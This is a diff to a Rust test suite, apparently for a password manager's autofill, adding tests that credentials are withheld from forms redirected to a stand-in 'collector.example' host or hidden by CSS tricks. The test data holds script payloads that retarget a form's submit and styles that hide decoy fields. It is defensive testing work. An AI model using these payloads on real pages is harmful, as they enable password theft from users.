@@ -212,6 +212,7 @@ async fn t34_fields_that_change_when_the_fill_begins_get_nothing() -> Result<()>
         "pass.name = 'comment'",
         "one.action = 'http://collector.example/'",
         "one.querySelector('button').setAttribute('formaction', 'http://collector.example/')",
+        "one.insertAdjacentHTML('beforeend', '<input type=image formaction=\"http://collector.example/\">')",
         "two.append(pass)",
         "host.attachShadow({ mode: 'open' }).append(pass)",
         "pass.replaceWith(pass.cloneNode())",
@@ -262,6 +263,22 @@ async fn empty_fields_that_are_locked_until_somebody_comes_are_filled_and_shown_
     Ok(())
 }
 
+/// T-35: nobody could say where a form beyond the fiftieth sends to.
+#[tokio::test(flavor = "multi_thread")]
+async fn t35_a_form_too_many_is_not_filled_unasked() -> Result<()> {
+    let (world, tab, popup) = World::with_open_cache().await?;
+    let many = "<form hidden><input></form>".repeat(50);
+    let html = LOGIN.replacen("<form id=one", "<form id=one action='http://collector.example/'", 1);
+    fresh(&world, &tab, &popup, &format!("{many}{html}")).await?;
+    press_fill(&world, &popup).await?;
+    popup.wait_for_notice("noForm").await?;
+    assert_eq!(page::filled(&tab).await?, []);
+
+    fresh(&world, &tab, &popup, &html.replace("</form>", "<input type=image formaction=/in></form>")).await?;
+    press_fill(&world, &popup).await?;
+    popup.wait("the question", |screen| screen["question"]["type"] == "otherTarget").await.map(|_| ())
+}
+
 /// T-30: fields that are seen when the page is looked at and gone when the fill comes are in `decoys`; these hide on focus.
 #[tokio::test(flavor = "multi_thread")]
 async fn t30_hidden_ways_of_many_kinds_get_nothing() -> Result<()> {
@@ -276,6 +293,9 @@ async fn t30_hidden_ways_of_many_kinds_get_nothing() -> Result<()> {
         "transform:scale(0)",
         "content-visibility:hidden",
         "filter:opacity(.1)",
+        "filter:opacity(1) opacity(0)",
+        "filter:url(#nothing)",
+        "-webkit-mask-image:linear-gradient(transparent, transparent);mask-image:linear-gradient(transparent, transparent)",
     ];
     for style in hide {
         // A second form, first in the document and out of sight, beside the honest one.
